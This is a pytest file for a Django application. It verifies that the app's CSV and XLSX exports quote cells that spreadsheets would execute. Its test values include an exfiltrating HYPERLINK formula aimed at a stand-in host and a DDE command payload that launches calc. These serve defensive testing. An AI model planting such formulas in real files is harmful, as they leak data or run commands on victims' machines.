"""Finding 3: spreadsheet formula injection. Every CSV and XLSX file a person opens is written by
`lantern.web.spreadsheets`, which quotes a cell beginning with = + - @ tab or carriage return (OWASP) and
keeps numbers as numbers. Each export below is fed such values."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from lantern.accounts.roles import Role
from lantern.web.spreadsheets import csv_bytes, safe_cell, xlsx_bytes

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.invalid/?"&B2,"Open")'
FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"))))


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_run_is_quoted(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert rows_of(csv_bytes([[value]])) == [["'" + value]]


@pytest.mark.parametrize("value", [-3, -2.5, Decimal("-1.25"), "-3", "+4", "-0.5", "1e-3", "plain", "", None])
def test_numbers_stay_numbers_and_plain_text_stays_as_it_is(value: Any) -> None:
    assert safe_cell(value) == value


def test_an_xlsx_cell_is_text_never_a_formula() -> None:
    sheet = load_workbook(io.BytesIO(xlsx_bytes("t", [[HYPERLINK, -3]]))).active
    formula, number = sheet["A1"], sheet["B1"]
    assert formula.data_type == "s" and formula.value == "'" + HYPERLINK
    assert number.value == -3


def test_the_audit_export_quotes_a_username_from_a_failed_sign_in(
    client: Client, login_client: Any, personas: Any
) -> None:
    client.post(reverse("accounts:login"), {"username": HYPERLINK, "password": "wrong"})
    admin = login_client(personas.own[Role.SYSTEM_ADMIN])
    content = b"".join(admin.get(reverse("audit:export_csv")).streaming_content)
    actors = [row[2] for row in rows_of(content)[1:]]
    assert "'" + HYPERLINK in actors and HYPERLINK not in actors


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_statistics_exports_quote_a_label_that_looks_like_a_formula(
    login_client: Any, personas: Any, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    from lantern.insights import views

    monkeypatch.setattr(views, "_table_rows", lambda table, *_: [["dimension", "persons"], [HYPERLINK, -1]])
    response = login_client(personas.own[Role.NRM_DECISION_MAKER]).get(f"/insights/export/sex.{fmt}")
    assert response.status_code == 200
    if fmt == "csv":
        assert rows_of(response.content)[1] == ["'" + HYPERLINK, "-1"]
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert [cell.value for cell in sheet[2]] == ["'" + HYPERLINK, -1]


def test_the_training_coverage_export_quotes_a_name(login_client: Any, personas: Any) -> None:
    screener = personas.own[Role.SCREENER]
    screener.first_name, screener.last_name = "@SUM(1+1)", ""
    screener.save()
    content = login_client(personas.own[Role.ORG_ADMIN]).get("/training/coverage.csv").content
    names = [row[1] for row in rows_of(content)[1:]]
    assert "'@SUM(1+1)" in names


def test_the_campaign_reach_export_quotes_a_campaign_name(login_client: Any, personas: Any) -> None:
    from lantern.campaigns import reach
    from lantern.campaigns.tests.factories import CampaignFactory

    campaign = CampaignFactory(organisation=personas.own_org, name="\t=1+1")
    reach.count_qr_scan(campaign.code, "en")
    content = login_client(personas.own[Role.CASE_WORKER]).get(reverse("campaigns:reach_csv")).content
    assert rows_of(content)[1][0] == "'\t=1+1"


def test_the_dedup_export_quotes_a_name(personas: Any) -> None:
    from lantern.dedup.services import export_people_csv
    from lantern.dedup.tests.factories import person_case

    person_case(personas.own_org, given_names="-2+3", family_name=HYPERLINK)
    out = io.StringIO()
    export_people_csv(personas.own_org, out)
    row = rows_of(out.getvalue().encode())[1]
    assert "'-2+3" in row and "'" + HYPERLINK in row
